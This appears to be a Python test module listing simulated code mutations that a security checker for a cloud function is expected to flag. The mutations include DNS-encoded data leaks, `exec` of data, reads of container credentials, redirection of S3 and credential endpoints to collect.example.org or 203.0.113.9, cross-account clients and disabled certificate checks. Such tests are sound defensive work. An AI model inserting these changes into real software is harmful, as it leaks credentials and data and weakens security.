"""What a function's code may do in one place, done for others, or in another place as well."""

from attacks.attack import Attack, both, extend, replace, write
from attacks.runtimes import CLIENT, PROCESSOR, main

HOSTS, NAMES = (f"policies/declared/function_{of}.toml" for of in ("hosts", "code"))
EVERYTHING = 'why = "w"\nplaces = ["*"]\nnames = ["*"]\n'
THROUGH = both(
    write(f"{PROCESSOR}/helper.py", "from services.processor.runtime.large_file_main import os\n"),
    extend(f"{PROCESSOR}/ingest.py", "\n\nfrom services.processor.runtime.helper import os\n"),
)
# What a file may do in one place, done in another as well: by whom, and in what.
AGAIN = (
    ("code-connection", f"{CLIENT}/channel.py", "socket.socket().connect((name, 443))"),
    ("code-connection", f"{CLIENT}/endpoint.py", "socket.getaddrinfo(data.hex(), 53)"),
    ("code-file", f"{CLIENT}/tls.py", "Path(name).write_bytes(data)"),
    ("code-file", f"{CLIENT}/container_credentials.py", "Path(name).read_text()"),
    ("code-hidden-code", f"{PROCESSOR}/declaration/text_check.py", "exec(data)"),
    ("code-hidden-code", f"{PROCESSOR}/contracts/__init__.py", "getattr(data, name)"),
    ("code-hidden-code", f"{PROCESSOR}/contracts/__init__.py", "import_module(name)"),
)
ATTACKS = (
    *(
        Attack(f"{line!r} once more", extend(file, f"\n\n{line}\n"), by=kind, says="once more")
        for kind, file, line in AGAIN
    ),
    *(
        Attack(f"a listed {what} that is another", plant, by="declaration-widened", says=file)
        for what, file, plant in (
            ("host", HOSTS, replace(HOSTS, "events.{region}.amazonaws.com", "collect.example.org")),
            ("name", NAMES, extend(NAMES, f"\n[[allowed]]\n{EVERYTHING}")),
        )
    ),
    main(
        "the environment for a function of its own",
        "code-environment",
        "Settings.from_env(os.environ)",
        "Settings.from_env(os.environ | {})",
    ),
    main(
        "the environment for whom it is not for",
        "code-environment",
        "_metrics = Metrics()",
        "_metrics = Metrics(); make_ingest(os.environ)",
    ),
    *(
        main(
            f"a client of another account's, by {how}",
            "code-connection",
            "clients.s3(_settings.region, os.environ)",
            f"clients.s3(_settings.region, os.environ).to({name!r})",
        )
        for how, name in {
            "a bus": "arn:aws:events:us-east-1:999999999999:event-bus/audit",
            "the account's number": "audit-999999999999",
            "a bucket without one": "arn:aws:s3:::audit",
        }.items()
    ),
    main(
        "a client of another endpoint",
        "code-connection",
        "clients.s3(_settings.region, os.environ)",
        "clients.s3(_settings.region, {'AWS_ENDPOINT_URL': 'https://collect.example.org'})",
    ),
    main(
        "a client of a region that is a host",
        "code-connection",
        "clients.s3(_settings.region, os.environ)",
        "clients.s3('collect.example.org/', os.environ)",
    ),
    Attack(
        "an endpoint that is written down",
        replace(f"{CLIENT}/endpoint.py", '"amazonaws.com"', '"collect.example.org"'),
        by="code-connection",
    ),
    Attack(
        "credentials from another server",
        replace(f"{CLIENT}/container_credentials.py", "169.254.170.23", "203.0.113.9"),
        by="code-connection",
    ),
    Attack(
        "a connection from the parser of HTTP",
        extend(f"{CLIENT}/connection.py", "\nimport socket; socket.socket()\n"),
        by="code-connection",
    ),
    Attack(
        "other names are resolved",
        extend(f"{CLIENT}/channel.py", "\nsocket.getaddrinfo('h', 1)\n"),
        by="code-connection",
    ),
    Attack(
        "certificates that are not verified",
        replace(f"{CLIENT}/tls.py", "create_default_context", "_create_unverified_context"),
        by="code-connection",
    ),
    Attack("a module of ours leads to another", THROUGH, by="code-undeclared", says="import os"),
    Attack(
        "a folder above the runtime, which is in the bundle",
        extend("services/processor/__init__.py", "import socket; socket.socket()\n"),
        by="code-connection",
    ),
    Attack(
        "a new module of a runtime",
        write(f"{PROCESSOR}/more.py", "import subprocess; subprocess.run(['x'])\n"),
        by="code-process",
    ),
    Attack(
        "generated source that imports",
        extend(f"{PROCESSOR}/declaration/standard_source.py", "\n_LINE = 'import socket'\n"),
        by="code-hidden-code",
    ),
)
